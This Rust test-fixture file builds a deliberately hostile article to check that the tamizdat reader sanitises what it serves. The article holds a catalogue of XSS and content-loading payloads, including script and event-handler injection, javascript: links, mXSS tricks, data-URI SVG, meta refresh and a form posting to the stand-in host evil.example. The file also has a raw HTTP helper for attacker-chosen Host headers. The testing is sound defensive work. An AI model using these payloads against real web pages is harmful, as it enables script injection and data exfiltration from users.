//! Fixtures for the library tests: the demo edition with a hostile article added, packed,
//! and a running `tamizdat serve`.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use super::*;

/// An article that tries everything a page must never do: run script (five ways), load from
/// other hosts (images, CSS url() and @import, fonts, media, frames, objects), hint the browser
/// to prefetch or preconnect, refresh to another site, rebase its links, post a form away.
/// Every attempt would set `window.tamizdatPwned` or reach `evil.example`.
pub const HOSTILE_ARTICLE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Hostile test article</title>
<base href="http://evil.example/base/">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="prefetch" href="http://evil.example/prefetch">
<link rel="dns-prefetch" href="//dns-prefetch.evil.example">
<link rel="preconnect" href="http://preconnect.evil.example">
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/background.png); } @font-face { font-family: x; src: url(http://evil.example/font.woff2); }</style>
<script>window.tamizdatPwned = "a script in the head ran";</script>
</head>
<body>
<h1>Hostile test article</h1>
<p onmouseover="window.tamizdatPwned = 'an event handler ran'" style="background-image: url(http://evil.example/inline.png)">Text the reader should still see.</p>
<img src="http://evil.example/remote.png" alt="A remote picture">
<img src="not-an-image.png" onerror="window.tamizdatPwned = 'onerror ran'" alt="broken on purpose">
<svg><script>window.tamizdatPwned = "a script inside svg ran";</script></svg>
<p><a href="javascript:window.tamizdatPwned='a javascript: link ran'">A javascript link</a> and <a href="https://evil.example/story">a link to another site</a>.</p>
<form action="http://evil.example/post" method="post"><input name="q" value="secret"><button>Send</button></form>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object"></object>
<video src="http://evil.example/video.mp4" autoplay muted></video>
<audio src="http://evil.example/audio.mp3" autoplay></audio>
<img srcset="http://evil.example/srcset.png 2x" src="images/local.png" alt="A local picture">
<picture><source srcset="http://evil.example/picture.png"><img src="images/local.png" alt="A picture element"></picture>
<img src="//evil.example/protocol-relative.png" alt="protocol-relative"><img src="\/evil.example/backslash.png" alt="backslash">
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='http://evil.example/in-svg.png'/%3E%3Cscript%3Eparent.tamizdatPwned='svg data'%3C/script%3E%3C/svg%3E" alt="an SVG data image">
<noscript><img src="http://evil.example/noscript.png"></noscript>
<template><img src="http://evil.example/template.png"></template>
<math><mtext><table><mglyph><style><img src="http://evil.example/mxss.png" onerror="window.tamizdatPwned='mxss'"></style></mglyph></table></mtext></math>
<svg><style><img src="http://evil.example/svg-style.png" onerror="window.tamizdatPwned='svg style'"></style></svg>
<p><a href="https://evil.example/ping-target" ping="http://evil.example/ping">a link with a ping</a>, <a href="report.shtml">a local page that is not an article</a>, <a href="../en/river-cleanup.md#part">another article</a>, <a href="notes.txt">plain notes</a>.</p>
<script>window.tamizdatPwned = "a script in the body ran";</script>
</body>
</html>
"#;

/// The demo edition plus `hostile/article.html` and the files it references.
pub fn demo_with_hostile_article(root: &Path) {
    copy_tree(&example_edition(), root);
    write_file(root, "hostile/article.html", HOSTILE_ARTICLE.as_bytes());
    write_file(
        root,
        "hostile/not-an-image.png",
        b"these bytes are not a PNG",
    );
    write_file(root, "hostile/notes.txt", b"Plain notes, safe to open.\n");
    // A right-to-left article whose picture is elsewhere: its placeholder must read left to
    // right, brackets included.
    write_file(
        root,
        "hostile/fa-remote.html",
        "<!DOCTYPE html><html lang=\"fa\" dir=\"rtl\"><head><meta charset=\"utf-8\"><title>عکس از جای دیگر</title></head><body><h1>عکس از جای دیگر</h1><p>پیش از عکس <img src=\"https://evil.example/fa.png\" alt=\"نانوایی محله\"> پس از عکس.</p></body></html>\n".as_bytes(),
    );
    // Not an article (pack does not know .shtml), but a browser runs it as HTML.
    write_file(
        root,
        "hostile/report.shtml",
        b"<meta http-equiv=refresh content='0;url=https://evil.example/refresh'><script>window.tamizdatPwned='shtml'</script><img src=https://evil.example/shtml.png>",
    );
    write_file(
        root,
        "hostile/markdown.md",
        b"---\ntitle: Hostile Markdown\n---\n\n# Hostile Markdown\n\n<script>window.tamizdatPwned='md script'</script>\n\n![remote](https://evil.example/md.png)\n\n[js](javascript:window.tamizdatPwned='md link')\n\n<img src=not-an-image.png onerror=\"window.tamizdatPwned='md onerror'\">\n",
    );
    // A real 1x1 PNG.
    let png = data_encoding::BASE64
        .decode(b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")
        .unwrap();
    write_file(root, "hostile/images/local.png", &png);
}

/// Packs `edition` with the demo key (remote references allowed: the hostile article has
/// them on purpose) into `out`.
pub fn pack_demo(edition: &Path, key: &Key, out: &Path) {
    pack(edition, key, out, &["--allow-remote"]).expect_code(0);
}

/// A `tamizdat serve` child, killed when dropped.
pub struct Served {
    child: Child,
    pub address: SocketAddr,
}

impl Served {
    /// The server's process id, to read its threads and memory from `/proc`.
    pub fn pid(&self) -> u32 {
        self.child.id()
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `tamizdat open BUNDLE --library LIBRARY --public-key KEY --no-browser`, which must
/// succeed.
#[track_caller]
pub fn import_into(library: &Path, bundle: &Path, key: &Key, home: &Path) {
    reader()
        .arg("open")
        .arg(bundle)
        .arg("--library")
        .arg(library)
        .arg("--public-key")
        .arg(&key.public_path)
        .arg("--no-browser")
        .home(home)
        .run()
        .expect_code(0);
}

pub fn serve(library: &Path, home: &Path) -> Served {
    let mut command = Command::new(env!("CARGO_BIN_EXE_tamizdat"));
    command
        .arg("serve")
        .arg("--library")
        .arg(library)
        .env("TAMIZDAT_HOME", home);
    serve_with(command)
}

/// Starts `command` (a `tamizdat serve`, perhaps wrapped) and waits for the address it prints.
pub fn serve_with(mut command: Command) -> Served {
    let mut child = command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("start tamizdat serve");
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let address = line
        .split("http://")
        .nth(1)
        .and_then(|rest| rest.split('/').next())
        .and_then(|address| address.parse().ok())
        .unwrap_or_else(|| panic!("serve printed no address: {line:?}"));
    Served { child, address }
}

/// A raw HTTP/1.1 exchange, so tests can send exactly the Host and path an attacker would.
pub struct Reply {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Reply {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

pub fn request(address: SocketAddr, method: &str, path: &str, host: &str) -> Reply {
    let mut stream = TcpStream::connect(address).unwrap();
    write!(
        stream,
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
    )
    .unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a complete response head");
    let head = String::from_utf8_lossy(&raw[..split]).into_owned();
    let mut lines = head.lines();
    let status = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|s| s.parse().ok())
        .expect("a status line");
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_string(), v.trim().to_string()))
        .collect();
    Reply {
        status,
        headers,
        body: raw[split + 4..].to_vec(),
    }
}

/// Every page of a library (front page and everything under `read/`).
pub fn pages_of(library: &Path) -> Vec<PathBuf> {
    let mut pages = vec![library.join("index.html")];
    for entry in walkdir::WalkDir::new(library.join("read")) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            pages.push(entry.into_path());
        }
    }
    pages
}
